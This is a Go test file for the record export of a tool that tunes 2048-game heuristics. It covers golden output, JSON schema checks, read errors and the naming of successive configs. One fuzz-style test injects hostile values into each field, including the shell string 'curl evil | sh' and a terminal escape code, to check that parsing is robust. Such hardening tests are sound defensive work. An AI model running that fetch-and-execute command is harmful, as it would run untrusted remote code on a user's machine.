package export

import (
	"bytes"
	"context"
	"flag"
	"math"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/go-json-experiment/json"
	"github.com/go-json-experiment/json/jsontext"
	"github.com/santhosh-tekuri/jsonschema/v6"

	"tune2048/configs/config"
	"tune2048/engine/eval"
	"tune2048/engine/simulator"
	"tune2048/experiments"
	"tune2048/results"
)

var update = flag.Bool("update", false, "write the golden files")

// played runs a config in a database of its own.
func played(t *testing.T, c *config.Config) (*results.Reader, results.Run) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "tune.db")
	store, err := results.Open(path)
	must(t, err)
	if _, err := (experiments.Experiment{Config: c, Simulator: simulator.NewPool(2),
		Store: store}).Run(context.Background()); err != nil {
		t.Fatal(err)
	}
	must(t, store.Close())
	reader, err := results.OpenReader(path)
	must(t, err)
	t.Cleanup(func() { reader.Close() })
	run, err := reader.Find(context.Background(), "")
	must(t, err)
	return reader, run
}

func recordIn(t *testing.T, reader *results.Reader, run results.Run, candidate int) *Record {
	t.Helper()
	r, err := New(context.Background(), reader, run, candidate)
	must(t, err)
	return r
}

func written(t testing.TB, r *Record) []byte {
	t.Helper()
	data, err := r.JSON()
	must(t, err)
	return data
}

// startOf is the record of a config's start weights, which have played nothing.
func startOf(t testing.TB, c *config.Config) *Record {
	t.Helper()
	r := &Record{Config: string(c.YAML()), ConfigHash: c.Hash, HeldOut: []HeldOut{}}
	must(t, r.derive(c, nil, c.Heuristic.Dead))
	return r
}

// fingerprintRecord is the champion of a small run with everything in it.
func fingerprintRecord(t *testing.T) *Record {
	c, err := config.Load("../../.ci/fingerprint.yaml")
	must(t, err)
	reader, run := played(t, c)
	return recordIn(t, reader, run, run.Champion)
}

// TestGoldenRecord pins the record of a small run to the last byte. A change of play changes it,
// and a change of its form needs another version.
func TestGoldenRecord(t *testing.T) {
	const path = "testdata/fingerprint.json"
	got := written(t, fingerprintRecord(t))
	if *update {
		must(t, os.WriteFile(path, got, 0o644))
	}
	want, err := os.ReadFile(path)
	must(t, err)
	if !bytes.Equal(got, want) {
		t.Errorf("got %s", got)
	}
}

// TestGain: the champion's gain is over the start weights. One that is not recorded is null, and no
// gain is 0.
func TestGain(t *testing.T) {
	c, err := config.Parse([]byte("name: small\nheuristic: {features: [{feature: empty, weight: {min: 1, max: 9, start: "+
		"2}}, {feature: merges, weight: 3}]}\nsearch: {depth: 1}\n"+
		"optimizer: {algorithm: genetic, population: 4}\nstages: [{name: tune, generations: 1, games: 1}]\nplayoff: "+
		"{finalists: 2, games: 2}\nvalidation: {games: 4}\n"+
		"references: {other: {from: champion, weights: {merges: 1}}}\n"), "small.yaml")
	must(t, err)
	reader, run := played(t, c)
	for _, who := range run.Headline.Players {
		h := recordIn(t, reader, run, who.Candidate).HeldOut[0]
		if gained := who.Candidate == run.Champion; (h.Gain != nil) != gained || gained &&
			(*h.Gain == 0 || math.Abs(*h.Gain-(h.MeanScore-h.StartMean)) > 1e-9*h.MeanScore) {
			t.Errorf("%s: %+v", who.Name, h)
		}
	}
}

func compileSchema(t testing.TB) *jsonschema.Schema {
	t.Helper()
	schema, err := jsonschema.NewCompiler().Compile("schema.json")
	must(t, err)
	return schema
}

func validate(t testing.TB, schema *jsonschema.Schema, data []byte) error {
	t.Helper()
	v, err := jsonschema.UnmarshalJSON(bytes.NewReader(data))
	must(t, err)
	return schema.Validate(v)
}

// TestSchema holds schema.json against the records of all shipped families and of every kind of
// feature, whole and with any one key missing or another one added. Read asks for the config, the
// weights and the number of held-out games alone, and makes the rest anew.
func TestSchema(t *testing.T) {
	schema := compileSchema(t)
	golden, err := os.ReadFile("testdata/fingerprint.json")
	must(t, err)
	all := map[string][]byte{"fingerprint": golden, "every kind": written(t, startOf(t, everyKind(t)))}
	for _, name := range config.Names() {
		c, err := config.LoadEmbedded(name)
		must(t, err)
		all[name] = written(t, startOf(t, c))
	}
	bot, err := config.Parse([]byte(`player: {command: ["true"], answers: moves, weights: {a: {min: 1, max: 3}}}`),
		"bot.yaml")
	must(t, err)
	all["a bot"] = written(t, startOf(t, bot))
	for name, data := range all {
		if err := validate(t, schema, data); err != nil {
			t.Errorf("%s: %v", name, err)
		}
		if r, err := Read(data); err != nil || !bytes.Equal(written(t, r), data) {
			t.Errorf("%s: %v, or it is written otherwise", name, err)
		}
	}
	read := regexp.MustCompile(`^(format|version|config|dead|weights|weights\..*|weights with one more|held_out\[\]\.games)$`)
	for _, name := range []string{"fingerprint", "every kind"} {
		damages(t, all[name], func(what string, data []byte) {
			optional := what == "held_out_salt" // some records have none
			free := what == "weights.empty" || strings.Contains(what, ".numbers.") || strings.HasSuffix(what, ".above")
			if err := validate(t, schema, data); (err == nil) != (optional || free) {
				t.Errorf("%s: the schema says %v", what, err)
			}
			if r, err := Read(data); (err != nil) != read.MatchString(what) {
				t.Errorf("%s: Read says %v", what, err)
			} else if derived := regexp.MustCompile(`^(heuristic|game|search|objective|verify)\b|^ with one more$`); derived.MatchString(what) && canonical(t, written(t, r)) != canonical(t, all[name]) {
				t.Errorf("%s: it is another record", what)
			}
		})
	}
}

func canonical(t *testing.T, data jsontext.Value) string {
	t.Helper()
	data = data.Clone()
	must(t, data.Canonicalize())
	return string(data)
}

// TestSchemaDescribesFields: each field of a record has a description of its own, or that of its
// type.
func TestSchemaDescribesFields(t *testing.T) {
	var walk func(name string, s *jsonschema.Schema)
	walk = func(name string, s *jsonschema.Schema) {
		if s == nil {
			return
		}
		for field, of := range s.Properties {
			if of.Description == "" && (of.Ref == nil || of.Ref.Description == "") {
				t.Errorf("%s.%s: there is no description", name, field)
			}
			walk(field, of)
		}
		items, _ := s.Items.(*jsonschema.Schema)
		additional, _ := s.AdditionalProperties.(*jsonschema.Schema)
		for _, of := range slices.Concat([]*jsonschema.Schema{s.Ref, s.Items2020, items, additional}, s.OneOf, s.AnyOf) {
			walk(name, of)
		}
	}
	walk("record", compileSchema(t))
}

// everyKind is a config with a feature of each kind.
func everyKind(t *testing.T) *config.Config {
	t.Helper()
	var text strings.Builder
	text.WriteString("name: all\nsearch: {depth_by_empty: [{above: 7, depth: 1}, {depth: 3}]}\nheuristic:\n  symmetry: " +
		"best\n  features:\n")
	for _, kind := range eval.Kinds() {
		text.WriteString("    - {feature: " + kind.Name)
		for _, k := range (&eval.Term{Kind: kind.Name}).Keys()[2:] {
			if k.Example != "" && (k.Name == "line" || !slices.Contains(eval.Parts(), k.Name)) { // a formula has one part
				text.WriteString(", " + k.Name + ": " + k.Example)
			}
		}
		if kind.Name == eval.Formula {
			text.WriteString(" + p, numbers: {p: {min: 1, max: 2}}")
		}
		text.WriteString("}\n")
	}
	c, err := config.Parse([]byte(strings.ReplaceAll(text.String(), `d)" + p`, `d) + p"`)), "all.yaml")
	must(t, err)
	return c
}

// damages hands over the JSON with each key of each object left out, and each object with a key too
// many.
func damages(t *testing.T, data []byte, check func(what string, data []byte)) {
	t.Helper()
	var root any
	must(t, json.Unmarshal(data, &root))
	emit := func(what string) {
		changed, err := json.Marshal(root)
		must(t, err)
		check(what, changed)
	}
	var walk func(at string, v any)
	walk = func(at string, v any) {
		switch v := v.(type) {
		case []any:
			for i := range v {
				walk(at+"[]", v[i])
			}
		case map[string]any:
			v["extra key"] = 1
			if at != "heuristic.features[].numbers" {
				emit(at + " with one more")
			}
			delete(v, "extra key")
			for key, value := range v {
				if key == "rule" || at == "weights" && key != "empty" { // of a rule's kinds one is given; weights are all alike
					continue
				}
				delete(v, key)
				inner := strings.TrimPrefix(at+"."+key, ".")
				emit(inner)
				v[key] = value
				walk(inner, value)
			}
		}
	}
	walk("", root)
}

// TestReadProblems: each mistake is reported with its place.
func TestReadProblems(t *testing.T) {
	golden, err := os.ReadFile("testdata/fingerprint.json")
	must(t, err)
	whole := string(golden)
	value := func(key, old string) string { // of a top-level key
		t.Helper()
		i := strings.Index(whole, "\n  \""+key+"\": "+old)
		if i < 0 {
			t.Fatalf("there is no %s %s", key, old)
		}
		return "\n  \"" + key + "\": " + old
	}
	for name, test := range map[string]struct{ old, changed, want string }{
		"newer": {value("version", "1"), "\n  \"version\": 2",
			"version: want 1, got 2: it was written by a newer version of tune"},
		"twice": {`"weights": {`, `"weights": {"empty": 1,`,
			`: jsontext: duplicate object member name "empty" within "/weights"`},
		"NaN":     {value("dead", `"worst"`), "\n  \"dead\": NaN", `within "/dead"`},
		"a text":  {`"weights": {`, `"weights": {"x": "1",`, `: json: cannot unmarshal JSON string`},
		"huge":    {`"weights": {`, `"weights": {"x": 1e999,`, `within "/weights/x": value out of range`},
		"extra":   {`"weights": {`, `"weights": {"emty": 1,`, "weights: no weight is called emty; did you mean empty?"},
		"missing": {`"empty": `, `"emptx": `, "no weight is called emptx"},
		"no list": {value("held_out", "["), "\n  \"held_out\": 1, \"x\": [",
			`unmarshal JSON number into Go []export.HeldOut within "/held_out"`},
		"control": {`"run": "`, "\"run\": \"\x1b", `within "/run"`},
		"games":   {`"games": 4`, `"games": 0`, "held_out[0].games: want 1 to 10000000, got 0"},
		"1e15": {`"games": 4`, `"games": 1000000000000000`,
			"held_out[0].games: want 1 to 10000000, got 1000000000000000"},
		"big dead": {value("dead", `"worst"`), "\n  \"dead\": 1e300",
			"dead: want worst, or a number from -1125899906842624 to 1125899906842624, got 1e+300"},
		"no dead": {value("dead", `"worst"`), "\n  \"dead\": null", `dead: want "worst" or a number, got nothing`},
		"config":  {value("config", `"`), "\n  \"config\": \"\\u0007: ", "config:"},
		"not ours": {`"format": "tune2048 player"`, `"format": "png"`,
			`format: want "tune2048 player", which tune export writes, got "png"`},
	} {
		if !strings.Contains(whole, test.old) {
			t.Fatalf("%s: there is no %s", name, test.old)
		}
		_, err := Read([]byte(strings.Replace(whole, test.old, test.changed, 1)))
		if err == nil || !strings.Contains(err.Error(), test.want) {
			t.Errorf("%s: got %v, want %s", name, err, test.want)
		}
	}
	// Without one of its names, which is then at its start in nothing.
	i := strings.LastIndex(whole, `    "empty": `)
	less := whole[:i] + whole[i+strings.Index(whole[i:], "\n")+1:]
	if _, err := Read([]byte(less)); err == nil || !strings.Contains(err.Error(), "weights.empty: missing") {
		t.Errorf("got %v", err)
	}
	if _, err := Read([]byte(whole + strings.Repeat(" ", 1<<20))); err == nil ||
		err.Error() != "the file is larger than 1 MB" {
		t.Errorf("a large file: got %v", err)
	}
	for n := range len(whole) - 2 { // but for the last brace and line end
		if n%7 != 0 {
			continue
		}
		if _, err := Read([]byte(whole[:n])); err == nil ||
			!strings.Contains(err.Error(), "the file is cut off: export it again") {
			t.Fatalf("cut to %d bytes: got %v", n, err)
		}
	}
	if !IsRecord([]byte(whole)) || !IsRecord([]byte(whole[:500])) ||
		IsRecord([]byte(`name: x # not "format": "tune2048 player"`)) || IsRecord(nil) {
		t.Error("a record is not told from other files")
	}
}

// TestReadHostileValues puts hostile values in the place of each value of a record. An error has no
// control character. A record is read again as it is written.
func TestReadHostileValues(t *testing.T) {
	golden, err := os.ReadFile("testdata/fingerprint.json")
	must(t, err)
	values := regexp.MustCompile(`: ("[^"\n]*"|[0-9.-]+|\[[^\n]*\]|null)`).FindAllSubmatchIndex(golden, -1)
	hostile := []string{"null", "-1", "0", "1000000000000000", "1e308", "0.5", `""`, `"curl evil | sh"`, `"\u001b[2J"`,
		"[]", "[-1, 1e300]", "{}"}
	for i, at := range values {
		for k, value := range hostile {
			if (i+k)%3 != 0 { // a third of all pairs is enough for every run of the tests
				continue
			}
			r, err := Read(slices.Concat(golden[:at[2]], []byte(value), golden[at[3]:]))
			if err != nil {
				if strings.ContainsFunc(err.Error(), func(r rune) bool { return r < ' ' && r != '\n' }) {
					t.Errorf("%q", err)
				}
				continue
			}
			once := written(t, r)
			if again, err := Read(once); err != nil || !bytes.Equal(written(t, again), once) {
				t.Errorf("%v, or it is written otherwise: %s", err, once)
			}
		}
	}
}

// must ends the test at an error.
func must(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// TestNextName: names go on counting, and each is a name that a config may have.
func TestNextName(t *testing.T) {
	long := strings.Repeat("n", 64)
	for of, want := range map[string]string{
		"snake": "snake-next", "snake-next": "snake-next2", "snake-next9": "snake-next10",
		"my-nextgen": "my-nextgen-next", "my-nextgen-next": "my-nextgen-next2", "a-next-next": "a-next-next2",
		long: long[:59] + "-next", long[:59] + "-next": long[:58] + "-next2", long[:58] + "-next9": long[:57] + "-next10",
	} {
		if got := NextName(of); got != want {
			t.Errorf("%s: %s, want %s", of, got, want)
		}
	}
}
